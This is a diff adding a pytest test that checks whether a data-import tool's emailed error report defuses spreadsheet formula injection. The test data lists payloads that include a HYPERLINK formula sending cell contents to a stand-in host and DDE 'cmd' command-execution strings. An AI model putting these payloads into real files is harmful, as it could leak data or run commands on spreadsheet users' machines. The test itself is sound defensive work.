@@ -5,9 +5,12 @@ loopback receives them."""
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import threading
 from collections.abc import Callable, Iterator
+from pathlib import Path
 from typing import Any
 
 import pytest
@@ -190,3 +193,59 @@ def test_an_email_with_no_recipients_is_sent_after_the_addresses_are_fixed(
     [(recipients, message)] = relay.messages()
     assert recipients == [ADMIN]
     assert message["To"] == ADMIN
+
+
+# What an SIS export can carry that a spreadsheet would run (OWASP's CSV-injection triggers,
+# Excel's DDE and HYPERLINK, LibreOffice's functions, the full-width forms).
+FORMULAS = [
+    '=HYPERLINK("http://evil.test/?leak="&B2,"Click to fix")',
+    "=cmd|' /C calc'!A0",
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+9)*cmd|' /C calc'!A0",
+    "\t=2+2",
+    " =1+1",
+    "\uff1dcmd|' /C calc'!A0",
+]
+TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
+
+
+def with_formulas(district: District) -> dict[str, bytes]:
+    """The district's students with a grade column whose values (and an extra column's name)
+    are formulas: each is a row error or a warning that quotes it."""
+    files = district.files()
+    rows = list(csv.reader(io.StringIO(files["students.csv"].decode())))
+    header = [*rows[0], "grade", "=1+1"]
+    body = [
+        [*row, FORMULAS[n % len(FORMULAS)] if n < len(FORMULAS) else "05", "x"]
+        for n, row in enumerate(rows[1:])
+    ]
+    out = io.StringIO()
+    csv.writer(out, lineterminator="\r\n").writerows([header, *body])
+    return files | {"students.csv": out.getvalue().encode()}
+
+
+def test_the_attached_problem_report_runs_no_formula_in_a_spreadsheet(
+    make_site: Callable[..., Site], relay: Relay, tmp_path: Path
+) -> None:
+    site = make_site(**relayed_by(relay))
+    site.add_tenant("acme", ADMIN)
+    folder = tmp_path / "upload"
+    folder.mkdir()
+    for name, data in with_formulas(District("acme", students=12)).items():
+        (folder / name).write_bytes(data)
+
+    site.cli("import", str(folder), "--tenant", "acme")  # pauses: rows with errors
+    run(site, "outbox", "send")
+
+    [(_, paused)] = relay.messages()
+    assert paused["Subject"] == "Check Your Data: acme import #1 is paused"
+    [part] = list(paused.iter_attachments())
+    rows = list(csv.reader(io.StringIO(str(part.get_content()).lstrip("\ufeff"), newline="")))
+    values = [row[5] for row in rows[1:]]
+    assert len(values) >= len(FORMULAS), rows
+    cells = [cell for row in rows for cell in row]
+    assert [c for c in cells if c[:1] in TRIGGERS or c.lstrip()[:1] in TRIGGERS] == []
+    # The district still reads what its export said, behind the quote that defuses it.
+    assert "'=cmd|' /C calc'!A0" in values
+    assert "'\uff1dcmd|' /C calc'!A0" in values
